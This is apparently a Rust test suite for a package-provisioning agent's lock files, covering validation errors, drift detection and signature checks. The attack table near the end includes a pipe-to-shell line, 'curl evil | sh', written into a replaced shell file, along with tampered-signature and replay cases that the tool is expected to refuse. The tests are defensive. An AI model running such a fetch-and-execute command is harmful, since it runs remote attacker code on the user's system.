//! Locks: the messages of `check` for invalid locks, and that schema and parser agree.

use std::fs;

use nodeagent::{
    digest::Digest,
    trust::{Prehash, SecretKey, beside, trusted_comment},
};
use serde_json::Value;

use crate::support::{NodeTest, agent_in, entries, project, put, snapshots};

/// Invalid locks that match the schema: they break rules about the meaning.
const BEYOND_SHAPE: [&str; 22] = [
    "address_of_another_kind",
    "apt_option",
    "apt_version",
    "deb_path",
    "deb_twice",
    "digest_short",
    "distribution_name",
    "distribution_version",
    "git_commit",
    "login_in_an_address",
    "os_with_a_line_break",
    "profile_name",
    "r_from_nowhere",
    "r_from_two_sources",
    "r_git_subdir",
    "r_git_without_commit",
    "r_name",
    "r_needs_unknown",
    "r_version",
    "section_twice",
    "serial_zero",
    "venv_relative",
];

#[test]
fn every_mistake_in_a_lock_is_reported_with_its_location() {
    snapshots().bind(|| {
        insta::glob!("../fixtures/locks/bad", "*.lock", |path| {
            let folder = path.parent().expect("it lies in a folder");
            let name = path.file_name().and_then(|name| name.to_str()).expect("the name is UTF-8");
            let output = agent_in(folder, &["check", name]).ended(2);
            assert_eq!(output.stdout, "", "errors go to standard error only");
            assert!(
                !output.stderr.contains("hunter2")
                    || name != "login_in_an_address.lock"
                    || output.stderr.contains("| ")
            );
            insta::assert_snapshot!(output.stderr);
        });
    });
}

#[test]
fn a_valid_lock_passes_the_check_and_the_schema() {
    let folder = project().join("tests/fixtures/locks/good");
    let output = agent_in(&folder, &["check", "family.lock"]).ended(0);
    assert_eq!(output.stderr, "1 lock sound\n");
    let schema = agent_in(project(), &["schema", "lock"]).ended(0).json();
    jsonschema::meta::validate(&schema).expect("it follows its own meta-schema");
    let validator = jsonschema::validator_for(&schema).expect("the schema is sound");
    let read = |path: &std::path::Path| -> Option<Value> {
        toml::from_str(&fs::read_to_string(path).expect("fixtures are readable")).ok()
    };
    let good = read(&folder.join("family.lock")).expect("it is TOML");
    let errors: Vec<String> = validator.iter_errors(&good).map(|error| error.to_string()).collect();
    assert!(errors.is_empty(), "{errors:#?}");
    for path in entries(&project().join("tests/fixtures/locks/bad")) {
        let name = path.file_stem().and_then(|name| name.to_str()).expect("UTF-8");
        let Some(lock) = read(&path) else { continue };
        assert_eq!(validator.is_valid(&lock), BEYOND_SHAPE.contains(&name), "{name}");
    }
}

const SHA: &str = "d2096d4edde128fedf6749be2dd204a5810210a6201126d99b8d412344f71056";
const WHEEL: &str = "lib/python/inhouse-1.0-py3-none-any.whl";

/// A profile with every kind of entry that a lock supports.
const PROFILE: &str = r#"
[vars]
editor = "vim"

[apt]
packages = ["jq", { name = "tree", optional = true }, { name = "gdal-bin", optional = true }]

[pip]
packages = ["nltk>=3"]

[wheel]
files = ["lib/python/inhouse-1.0-py3-none-any.whl"]

[r]
packages = ["later"]

[shell]
bashrc = { file = "prompt.sh" }
variables = { EDITOR = "${vars.editor}" }
"#;

const ASKS: [&str; 6] = [
    "apt gdal-bin (optional)",
    "apt jq",
    "apt tree (optional)",
    "pip nltk>=3",
    "r later",
    "wheel lib/python/inhouse-1.0-py3-none-any.whl",
];

fn digest(text: &str) -> String {
    Digest::sha256(text.as_bytes()).hex().to_owned()
}

fn arch() -> &'static str {
    if cfg!(target_arch = "aarch64") { "arm64" } else { "amd64" }
}

/// The lock of the present `x.toml`, for Debian 12 with Python 3.11 and R 4.2.2.
fn lock_of(node: &NodeTest) -> String {
    let profile = fs::read_to_string(node.beside("desk/x.toml")).expect("the profile is there");
    let arch = arch();
    let deb = |name: &str, version: &str, more: &str| {
        let file = format!("{name}_{version}_{arch}.deb");
        format!(
            "[[runtimes.apt]]\nname = \"{name}\"\nversion = \"{version}\"\narch = \"{arch}\"\nfile = \"{file}\"\nurl = \
             \"http://127.0.0.1:9/{file}\"\nsize = 1\nsha256 = \"{SHA}\"\n{more}"
        )
    };
    let asset = |path: &str, text: &str| {
        format!("[[runtimes.assets]]\npath = \"{path}\"\nsize = {}\nsha256 = \"{}\"\n", text.len(), digest(text))
    };
    [
        format!("schema = 1\nserial = 7\nprofile = \"x\"\n[[files]]\npath = \"x.toml\"\nsha256 = \"{}\"\n", digest(&profile)),
        format!("[[runtimes]]\nos = \"debian 12\"\narch = \"{arch}\"\npython-version = \"3.11\"\nr-version = \"4.2.2\"\n"),
        format!("asks = {ASKS:?}\n"),
        deb("jq", "1.6-2.1", ""),
        deb("libjq1", "1.6-2.1", ""),
        deb("tree", "2.1.0-1", "only-for = [\"tree\"]\n"),
        format!(
            "[[runtimes.python]]\nname = \"nltk\"\nversion = \"3.9.1\"\nfile = \"nltk-3.9.1-py3-none-any.whl\"\nurl = \
             \"http://127.0.0.1:9/nltk-3.9.1-py3-none-any.whl\"\nsha256 = \"{SHA}\"\n"
        ),
        format!(
            "[[runtimes.r]]\nname = \"later\"\nversion = \"1.3.0\"\nurl = \"http://127.0.0.1:9/later_1.3.0.tar.gz\"\nsha256 = \
             \"{SHA}\"\n"
        ),
        asset(WHEEL, "a wheel"),
        asset("prompt.sh", "PS1='> '\n"),
    ]
    .concat()
}

fn node() -> NodeTest {
    let node = NodeTest::new()
        .profile(PROFILE)
        .work("prompt.sh", "PS1='> '\n")
        .store(&format!("Admin/{WHEEL}"), "a wheel")
        .debs(&[("bash", "5.2.15-2+b7")])
        .python(&[("pip", "23.0.1")])
        .r(&[]);
    let lock = lock_of(&node);
    node.work("x.lock", &lock)
}

const PLAN: [&str; 3] = ["plan", "--profile", "x.toml"];

#[test]
fn a_plan_uses_the_lock_beside_the_profile() {
    let node = node();
    let before = node.listing();
    let output = node.agent(&PLAN).ended(0);
    assert_eq!(node.listing(), before, "planning changes nothing at all");
    node.frozen(|| insta::assert_snapshot!("plan_by_the_lock", output.stdout));
    let json = node.agent(&[&PLAN[..], &["--json", "--locked"]].concat()).ended(0).json();
    assert_eq!((&json["lock"]["file"], &json["lock"]["serial"]), (&"x.lock".into(), &7.into()), "{json:#}");
    let without = node.agent(&[&PLAN[..], &["--json", "--unlocked"]].concat()).ended(0).json();
    assert!(without["lock"].is_null(), "{without:#}");
}

#[test]
fn only_packages_in_the_locked_version_count_as_installed() {
    let ready = node()
        .debs(&[("jq", "1.6-2.1"), ("libjq1", "1.6-2.1"), ("tree", "2.1.0-1"), ("gdal-bin", "3.6.2")])
        .python(&[("nltk", "3.9.1"), ("inhouse", "1.0")])
        .r(&[("later", "1.3.0")]);
    let steps = |node: &NodeTest| -> Vec<String> {
        let json = node.agent(&[&PLAN[..], &["--json"]].concat()).ended(0).json();
        let steps = json["steps"].as_array().expect("a list").iter();
        steps
            .map(|step| step["id"].as_str().expect("a text").to_owned())
            .filter(|id| !id.starts_with("bashrc"))
            .collect()
    };
    assert_eq!(steps(&ready), ["env:login"]);
    // Without a lock, the newer versions would satisfy the profile.
    let newer = ready
        .debs(&[("jq", "1.7-1"), ("libjq1", "1.6-2.1"), ("tree", "2.1.0-1"), ("gdal-bin", "3.6.2")])
        .r(&[("later", "1.4.1")]);
    assert_eq!(steps(&newer), ["apt", "r", "env:login"]);
    let json = newer.agent(&[&PLAN[..], &["--json", "--unlocked"]].concat()).ended(0).json();
    assert_eq!(json["steps"].as_array().map(Vec::len), Some(2), "{json:#}");
    // A missing dependency of a locked package also counts.
    let torn = newer.debs(&[("jq", "1.6-2.1"), ("tree", "2.1.0-1"), ("gdal-bin", "3.6.2")]).r(&[("later", "1.3.0")]);
    assert_eq!(steps(&torn), ["apt", "env:login"]);
}

#[test]
fn a_lock_that_does_not_match_refuses_the_run_and_names_the_differences() {
    const ANOTHER_R: &str = "Package: base\nVersion: 4.3.1\nPriority: base\nBuilt: R 4.3.1\n";
    let more = PROFILE.replace("\"jq\"", "\"jq\", { name = \"curl\", when = { role = \"driver\" } }");
    let with_more_entries = node().profile(&more);
    let lock = lock_of(&with_more_entries);
    let drifts = [
        ("profile", node().profile(&format!("{PROFILE}# another\n"))),
        ("runtime", node().file("etc/os-release", "ID=ubuntu\nVERSION_ID=\"22.04\"\n")),
        ("asset", node().work("prompt.sh", "PS1='$ '\n")),
        ("asked", with_more_entries.work("x.lock", &lock).var("DB_IS_DRIVER", "TRUE")),
        ("r", node().file("usr/lib/R/library/base/DESCRIPTION", ANOTHER_R)),
    ];
    for (name, node) in drifts {
        let before = node.listing();
        let output = node.agent(&["run", "--profile", "x.toml", "--quiet"]).ended(2);
        assert_eq!(node.changes_since(&before), [""; 0], "{name}");
        node.agent(&PLAN).ended(2);
        node.agent(&[&PLAN[..], &["--unlocked"]].concat()).ended(0);
        node.frozen(|| insta::assert_snapshot!(format!("drift_{name}"), output.stderr));
    }
}

#[test]
fn a_bake_that_cannot_publish_ends_before_it_packs() {
    let node = node()
        .debs(&[("jq", "1.6-2.1"), ("libjq1", "1.6-2.1"), ("tree", "2.1.0-1"), ("gdal-bin", "3.6.2")])
        .python(&[("nltk", "3.9.1"), ("inhouse", "1.0")])
        .r(&[("later", "1.3.0")]);
    let file = node.beside("file");
    put(&file, "not a folder");
    let before = node.listing();
    for (store, why) in [
        ("/nonexistent/store", "No such file or directory (os error 2)"),
        (file.to_str().expect("UTF-8"), "it is not a folder"),
    ] {
        let output = node.agent(&["store", "bake", "--profile", "x.toml", "--store", store]).ended(2);
        let message =
            format!("the layers cannot be published\n  caused by: the shared store `{store}` cannot be written: {why}");
        assert!(output.stderr.contains(&message), "{}", output.stderr);
        assert_eq!(node.changes_since(&before), [""; 0]);
    }
}

#[test]
fn variables_that_affect_no_package_may_differ() {
    // The value of a variable that no package depends on.
    node().agent(&[&PLAN[..], &["--set", "editor=nano"]].concat()).ended(0);
}

#[test]
fn a_file_that_differs_from_the_lock_is_refused() {
    let node = NodeTest::new()
        .profile(&format!("[wheel]\nfiles = [\"{WHEEL}\"]\n"))
        .store(&format!("Admin/{WHEEL}"), "a wheel")
        .python(&[("pip", "23.0.1")]);
    let lock = lock_of(&node);
    let kept = lock.find("[[runtimes.apt]]").expect("packages");
    let asset = lock.find("[[runtimes.assets]]").expect("files");
    let asks = format!("asks = {ASKS:?}");
    let lock = format!("{}{}", &lock[..kept], &lock[asset..]).replace("r-version = \"4.2.2\"\n", "");
    let node = node.work("x.lock", &lock.replace(&asks, &format!("asks = [\"wheel {WHEEL}\"]")));
    node.agent(&[&PLAN[..], &["--locked"]].concat()).ended(0);
    let node = node.store(&format!("Admin/{WHEEL}"), "another wheel");
    let output = node.agent(&["run", "--profile", "x.toml", "--quiet", "--locked"]).ended(2);
    node.frozen(|| insta::assert_snapshot!("drift_wheel", output.stderr));
}

#[test]
fn locked_without_a_lock_is_refused() {
    let fresh = NodeTest::new().profile("[apt]\npackages = [\"jq\"]\n");
    let without = fresh.agent(&[&PLAN[..], &["--locked"]].concat()).ended(2);
    fresh.agent(&PLAN).ended(0);
    let node = node().work("other.lock", "schema = 1\nserial = 1\nprofile = \"y\"\n");
    let other = node.agent(&[&PLAN[..], &["--lock", "other.lock"]].concat()).ended(2);
    let nowhere = node.agent(&[&PLAN[..], &["--lock", "nowhere.lock"]].concat()).ended(2);
    let node = node.work("x.lock", "schema = 1\nserial = 1\nprofile = \"x\"\nfile = []\n");
    let bad = node.agent(&PLAN).ended(2);
    node.agent(&[&PLAN[..], &["--unlocked"]].concat()).ended(0);
    node.frozen(|| {
        insta::assert_snapshot!("locked_without", without.stderr);
        insta::assert_snapshot!("locked_by_another", other.stderr);
        insta::assert_snapshot!("locked_nowhere", nowhere.stderr);
        insta::assert_snapshot!("locked_by_a_bad_one", bad.stderr);
    });
}

#[test]
fn lock_check_needs_no_node_and_reports_differences() {
    let node = node();
    // As in CI: another operating system, no Python, no R.
    let ci = node.file("etc/os-release", "ID=alpine\nVERSION_ID=\"3.20\"\n");
    fs::remove_dir_all(ci.root().join("databricks")).expect("it is ours");
    fs::remove_dir_all(ci.root().join("usr/lib/R")).expect("it is ours");
    let check = ["lock", "--check", "--profile", "x.toml"];
    let fits = ci.agent(&check).ended(0);
    assert_eq!(fits.stderr, "the lock x.lock matches: serial 7, 1 section\n");
    let changed = ci.profile(&PROFILE.replace("\"jq\"", "\"yq\"")).store(&format!("Admin/{WHEEL}"), "another wheel");
    let output = changed.agent(&check).ended(2);
    changed.frozen(|| insta::assert_snapshot!("check_differs", output.stderr));
    fs::remove_file(changed.beside("desk/x.lock")).expect("it is ours");
    let output = changed.agent(&check).ended(2);
    changed.frozen(|| insta::assert_snapshot!("check_without", output.stderr));
}

#[test]
fn a_difference_is_shown_as_text_and_as_json() {
    let node = node();
    let newer = lock_of(&node)
        .replace("serial = 7", "serial = 8")
        .replace("3.9.1", "3.9.2")
        .replace("later_1.3.0", "later_1.4.1");
    let newer = newer.replace("version = \"1.3.0\"", "version = \"1.4.1\"").replace("libjq1", "libjq2");
    let node = node.work("old.lock", &lock_of(&self::node())).work("x.lock", &newer);
    let output = node.agent(&["lock", "--diff", "old.lock", "--profile", "x.toml"]).ended(0);
    node.frozen(|| insta::assert_snapshot!("difference", output.stdout));
    let json = node.agent(&["lock", "--diff", "old.lock", "--json", "--profile", "x.toml"]).ended(0).json();
    assert_eq!(json["serial"], serde_json::json!([7, 8]));
    let output = node.agent(&["lock", "--diff", "nowhere.lock", "--profile", "x.toml"]).ended(2);
    assert!(output.stderr.contains("there is no lock `nowhere.lock`"), "{}", output.stderr);
}

#[test]
fn a_lock_cannot_be_made_for_another_node() {
    let nowhere = NodeTest::new().profile(PROFILE).work("prompt.sh", "x").store(&format!("Admin/{WHEEL}"), "a wheel");
    let no_node = nowhere.agent(&["lock", "--profile", "x.toml"]).ended(2);
    let refused = nowhere.agent(&["lock", "--profile", "x.toml", "--runtime", "15.4"]).ended(2);
    let built_in = nowhere.agent(&["lock", "--profile", "starter"]).ended(2);
    assert!(!nowhere.beside("desk/x.lock").exists());
    nowhere.frozen(|| {
        insta::assert_snapshot!("lock_no_node", no_node.stderr);
        insta::assert_snapshot!("lock_elsewhere", refused.stderr);
        insta::assert_snapshot!("lock_built_in", built_in.stderr);
    });
}

/// The same node with a trusted key. Only the lock is signed.
fn trusting() -> (NodeTest, SecretKey) {
    let key = SecretKey::generate().expect("random numbers");
    let node = node().file("etc/nodeagent.toml", &format!("trusted-keys = [\"{}\"]\n", key.public()));
    sign(&node, &key, "x.lock");
    (node, key)
}

fn sign(node: &NodeTest, key: &SecretKey, name: &str) {
    let path = node.beside("desk").join(name);
    let bytes = fs::read(&path).expect("it is there");
    let signature = key.sign(&Prehash::of(&bytes), &trusted_comment(1_700_000_000, name, None)).expect("it signs");
    put(&beside(&path), &signature.to_file());
}

#[test]
fn a_signed_lock_makes_the_profile_and_its_packages_trusted() {
    let (node, _) = trusting();
    let output = node.agent(&PLAN).ended(0);
    assert!(output.stdout.contains("nltk") && output.stdout.contains("jq"), "{}", output.stdout);
    let output = node.agent(&[&PLAN[..], &["--unlocked"]].concat()).ended(2);
    assert!(output.stderr.contains("`x.toml` is not trusted: it has no signature"), "{}", output.stderr);
}

type Attack = fn(NodeTest, &SecretKey) -> NodeTest;

/// Attacks by a user who can write beside the profile, each with the message of the check that detects it.
const ATTACKS: [(&str, Attack, &str); 8] = [
    (
        "a lock without its signature",
        |node, _| {
            fs::remove_file(node.beside("desk/x.lock.minisig")).expect("gone");
            node
        },
        "`x.lock` is not trusted: it has no signature",
    ),
    (
        "a changed lock",
        |node, _| changed(node, "serial = 7", "serial = 8"),
        "its content does not match its signature with the key",
    ),
    (
        "another address in the lock",
        |node, _| changed(node, "http://127.0.0.1:9/nltk", "http://127.0.0.1:8/nltk"),
        "its content does not match its signature with the key",
    ),
    (
        "the signed lock of another profile",
        |node, key| {
            let lock = fs::read_to_string(node.beside("desk/x.lock")).expect("there");
            let node = node.work("y.lock", &lock.replace("profile = \"x\"", "profile = \"y\""));
            sign(&node, key, "y.lock");
            for (from, to) in [("y.lock", "x.lock"), ("y.lock.minisig", "x.lock.minisig")] {
                let text = fs::read_to_string(node.beside("desk").join(from)).expect("there");
                put(&node.beside("desk").join(to), &text);
            }
            node
        },
        "its signature is for `y.lock`",
    ),
    (
        "an older signed lock",
        |node, _| node.file("var/lib/nodeagent/serials.json", "{\"format\":1,\"highest\":{\"lock:x\":8}}"),
        "its serial is 7; at least 8 is required",
    ),
    (
        "no lock any more",
        |node, _| {
            fs::remove_file(node.beside("desk/x.lock")).expect("gone");
            node.profile("").file("var/lib/nodeagent/serials.json", "{\"format\":1,\"highest\":{\"lock:x\":7}}")
        },
        "`x.toml` is not trusted: it has no signature",
    ),
    (
        "a changed profile",
        |node, _| node.profile(&format!("{PROFILE}# another\n")),
        "`x.toml` is not trusted: it has no signature",
    ),
    ("an exchanged file", |node, _| node.work("prompt.sh", "curl evil | sh\n"), "prompt.sh` is not trusted"),
];

fn changed(node: NodeTest, from: &str, to: &str) -> NodeTest {
    let lock = fs::read_to_string(node.beside("desk/x.lock")).expect("there");
    assert!(lock.contains(from));
    node.work("x.lock", &lock.replace(from, to))
}

#[test]
fn every_attack_on_a_signed_lock_is_refused_by_its_check() {
    for (name, attack, words) in ATTACKS {
        let (node, key) = trusting();
        let node = attack(node, &key);
        let before = node.listing();
        let output = node.agent(&["run", "--profile", "x.toml", "--quiet"]).ended(2);
        assert!(output.stderr.contains(words), "{name}: {}", output.stderr);
        assert_eq!(node.changes_since(&before), [""; 0], "{name}");
    }
}
